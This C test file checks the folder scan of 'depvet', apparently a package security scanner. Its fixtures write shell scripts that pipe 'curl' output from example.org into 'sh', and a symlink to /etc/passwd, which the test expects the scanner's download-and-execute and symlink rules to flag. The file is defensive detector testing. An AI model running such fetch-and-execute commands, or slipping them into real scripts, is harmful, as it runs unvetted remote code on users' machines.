/* depvet scan's work in the engine (engine/scanjob.h): the folder walk
 * (links not followed, .git left out, nested folders scanned) as a job of
 * a job set, and a refused rule folder. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "depvet/core/fileio.h"
#include "depvet/core/xdg.h"
#include "depvet/engine/scanjob.h"
#include "helpers.h"
#include "jobs_test.h"

static void put(const char *dir, const char *rel, const char *text)
{
    char p[256];
    snprintf(p, sizeof(p), "%s/%s", dir, rel);
    struct diag d;
    diag_clear(&d);
    cr_assert(file_write_atomic(p, text, strlen(text), &d), "%s", d.msg);
}

static size_t hits_of(const struct scan_result *r, const char *rule, const char *file)
{
    size_t n = 0;
    for (size_t i = 0; i < r->n_hits; i++)
        n += strcmp(r->hits[i].rule, rule) == 0 && strcmp(r->hits[i].file, file) == 0;
    return n;
}

static void make_folder(char *dir)
{
    cr_assert_not_null(mkdtemp(dir));
    char sub[160];
    struct diag d;
    diag_clear(&d);
    snprintf(sub, sizeof(sub), "%s/pkg/tools", dir);
    cr_assert(xdg_mkdirs(sub, &d), "%s", d.msg);
    snprintf(sub, sizeof(sub), "%s/.git", dir);
    cr_assert(xdg_mkdirs(sub, &d), "%s", d.msg);
    put(dir, "setup.py", "from setuptools import setup\nsetup(name='x')\n");
    put(dir, "pkg/tools/get.sh", "#!/bin/sh\ncurl -s http://example.org/x | sh\n");
    put(dir, ".git/hook.sh", "curl -s http://example.org/y | sh\n");
    char link[160];
    snprintf(link, sizeof(link), "%s/pkg/escape", dir);
    cr_assert_eq(symlink("/etc/passwd", link), 0);
}

Test(scanjob, folder_walk_as_a_job)
{
    char dir[] = "/tmp/depvet-scanjob-XXXXXX", rules[512];
    char cache[] = "/tmp/depvet-scanjob-cache-XXXXXX";   /* --cache: not the user's */
    make_folder(dir);
    cr_assert_not_null(mkdtemp(cache));
    snprintf(rules, sizeof(rules), "%s/rules", test_srcdir());
    struct scan_request q = {.target = dir, .kind = SCAN_FOLDER, .rules_dir = rules,
                             .eco = ECO_UNKNOWN, .now = 1750000000, .cache_flag = cache};
    struct diag d;
    diag_clear(&d);
    struct scan_outcome o;
    struct job_event ev;
    jobs_test_one(&scanjob_ops, scanjob_start(&q, &d), &o, &ev);
    cr_assert_not(ev.failed);
    cr_assert_not_null(o.res, "%s", o.d.msg);
    cr_assert_not_null(o.rs);
    cr_assert_eq(o.eco, ECO_PYPI, "setup.py: guessed PyPI");
    cr_assert_eq(hits_of(o.res, "shell-download-exec", "pkg/tools/get.sh"), 1, "nested file");
    cr_assert_eq(hits_of(o.res, "shell-download-exec", ".git/hook.sh"), 0, ".git left out");
    cr_assert_eq(hits_of(o.res, "archive-symlink", "pkg/escape"), 1, "a link is not followed");
    scan_outcome_fini(&o);
    /* The rules' compiled databases are kept in prefilter/ of --cache. */
    char pf[128];
    snprintf(pf, sizeof(pf), "%s/prefilter", cache);
    cr_assert(file_is_dir(pf), "%s", pf);

    /* The progress op counts the files the walk lists (setup.py, get.sh,
     * the link; not .git's) and ends on 3 of 3. */
    struct jobs_test_watch w = {0};
    q.progress = jobs_test_watch;
    q.progress_ud = &w;
    cr_assert(scanjob_run(&q, &o), "%s", o.d.msg);
    cr_assert_geq(w.calls, 1);
    cr_assert_eq(w.total, 3, "three files listed");
    cr_assert_eq(w.done, 3, "all scanned");
    scan_outcome_fini(&o);

    /* An archive is one unit: 1 of 1 once read (here: not an archive). */
    char file[192];
    snprintf(file, sizeof(file), "%s/setup.py", dir);
    w = (struct jobs_test_watch){0};
    struct scan_request qf = {.target = file, .kind = SCAN_FILE, .rules_dir = rules,
                              .eco = ECO_PYPI, .now = 1750000000, .cache_flag = cache,
                              .progress = jobs_test_watch, .progress_ud = &w};
    scanjob_run(&qf, &o);
    cr_assert_eq(w.total, 1);
    cr_assert_eq(w.done, 1);
    scan_outcome_fini(&o);
    q.progress = NULL;

    /* A refused rule folder: nothing scanned, said as a usage error. */
    q.rules_dir = "/nonexistent/depvet-rules";
    cr_assert_not(scanjob_run(&q, &o));
    cr_assert(o.bad_rules);
    cr_assert(diag_failed(&o.d));
    cr_assert_null(o.res);
    scan_outcome_fini(&o);
    char cmd[128];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s' '%s'", dir, cache);
    cr_assert_eq(system(cmd), 0);
}
